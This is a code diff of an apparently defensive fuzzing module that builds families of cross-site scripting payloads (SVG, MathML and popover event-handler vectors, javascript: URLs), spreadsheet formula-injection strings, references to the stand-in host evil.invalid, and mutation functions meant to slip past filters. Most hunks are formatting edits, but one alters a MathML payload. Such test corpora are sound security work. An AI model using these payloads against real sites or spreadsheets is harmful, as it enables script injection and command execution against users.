@@ -55,7 +55,9 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         "<link rel=prefetch href=//evil.invalid/x>",
         "<div popover onbeforetoggle=@ id=p>x</div>",
         "<xss autofocus tabindex=1 onfocus=@>x</xss>",
-        "<style>@import '//evil.invalid/x.css';</style>".replace("@import", "\N{COMMERCIAL AT}import"),
+        "<style>@import '//evil.invalid/x.css';</style>".replace(
+            "@import", "\N{COMMERCIAL AT}import"
+        ),
         "<template shadowrootmode=open><script>@</script></template>",
         "<dialog open onclose=@><form method=dialog><button>x</button></form></dialog>",
     ),
@@ -73,7 +75,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         "<svg><title><img src=x onerror=@></title></svg>",
         "<math><mtext><img src=x onerror=@></mtext></math>",
         "<math href=javascript:@>x</math>",
-        "<math><mi><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mi></math>",
+        "<math><mi><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mi>",
         "<svg></p><style><a id='</style><img src=x onerror=@>'>",
     ),
     "ends of elements": (
@@ -211,7 +213,7 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         "null",
         "NaN",
         "=cmd|' /C calc'!A0",
-        "=HYPERLINK(\"//evil.invalid/\",\"x\")",
+        '=HYPERLINK("//evil.invalid/","x")',
         "@SUM(1)",
         "1e999",
         "__proto__",
@@ -345,7 +347,7 @@ CHANGES: tuple[Change, ...] = (
     lambda text, _: escape(text),
     lambda text, _: escape(escape(text)),
     lambda text, _: quote(text, safe=" =()"),
-    lambda text, chance: chance.choice('"\'`') + ">" + text,
+    lambda text, chance: chance.choice("\"'`") + ">" + text,
     lambda text, chance: chance.choice(("</title>", "</script>", "-->", "]]>", "</svg>")) + text,
     lambda text, _: f"**{text}**",
     lambda text, _: f"[{text}]({text})",
